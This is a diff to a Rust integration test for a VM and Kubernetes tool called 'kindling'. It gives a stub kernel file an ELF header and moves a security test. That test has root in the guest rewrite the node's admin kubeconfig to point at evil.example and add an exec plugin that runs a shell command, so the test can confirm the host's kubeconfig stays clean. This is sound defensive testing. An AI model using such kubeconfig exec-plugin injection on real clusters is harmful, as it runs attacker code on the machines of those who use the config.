@@ -194,7 +194,9 @@ fn errors_say_what_to_do_before_anything_boots() {
 
     // A name held by a VM that is not a cluster.
     let kernel = env.dir.path().join("vmlinuz");
-    std::fs::write(&kernel, b"k").unwrap();
+    let mut elf = vec![0u8; 64];
+    elf[..4].copy_from_slice(b"\x7fELF");
+    std::fs::write(&kernel, &elf).unwrap();
     let client = kindling::daemon::client::Client::new(env.dir.path().join("daemon.sock"));
     client.create(&kindling::daemon::api::VmSpec::new("plain", &kernel)).unwrap();
     env.quick(&["start", "--name", "plain"])
@@ -452,13 +454,6 @@ fn a_cluster_serves_a_nodeport_survives_a_restart_and_deletes_cleanly() {
     let size: u64 = df.lines().last().unwrap_or("0").trim().parse().unwrap_or(0);
     assert!(size > 15 << 30, "the root filesystem is {size} bytes:\n{df}");
 
-    // Root in the guest rewrites the node's admin kubeconfig with an exec plugin: the
-    // host's kubeconfig is built from the host's own identity files and never has it.
-    let hostile = "cat >/etc/kindling/admin.conf <<'EOF'\napiVersion: v1\nkind: Config\nclusters:\n- name: x\n  cluster:\n    server: https://evil.example:6443\n\
-                   users:\n- name: x\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, touch /tmp/kindling-pwned]\n\
-                   contexts:\n- name: x\n  context: {cluster: x, user: x}\ncurrent-context: x\nEOF";
-    env.quick(&["exec", "--name", name, "--", "sh", "-c", hostile]).ok();
-
     // A locally built image without a registry: the busybox archive, loaded again.
     let (archive, image) = busybox_image();
     env.run(&["image", "load", archive.to_str().unwrap(), "--name", name], Duration::from_secs(30 * 60)).ok();
@@ -471,6 +466,13 @@ fn a_cluster_serves_a_nodeport_survives_a_restart_and_deletes_cleanly() {
     assert!(url.starts_with("http://127.0.0.1:"), "{url}");
     wait_for_body(&url, Duration::from_secs(15 * 60));
 
+    // Root in the guest rewrites the node's admin kubeconfig with an exec plugin (it
+    // breaks the node's own tools until the agent rewrites it at the next boot): the
+    // host's kubeconfig is built from the host's own identity files and never has it.
+    let hostile = "cat >/etc/kindling/admin.conf <<'EOF'\napiVersion: v1\nkind: Config\nclusters:\n- name: x\n  cluster:\n    server: https://evil.example:6443\n\
+                   users:\n- name: x\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, touch /tmp/kindling-pwned]\n\
+                   contexts:\n- name: x\n  context: {cluster: x, user: x}\ncurrent-context: x\nEOF";
+    env.quick(&["exec", "--name", name, "--", "sh", "-c", hostile]).ok();
     env.run(&["stop", "--name", name], Duration::from_secs(15 * 60)).ok();
     assert_eq!(env.quick(&["status", "--name", name, "-o", "json"]).ok().json()["status"], "stopped");
     // The host owns the credentials: a kubeconfig while the node is down.
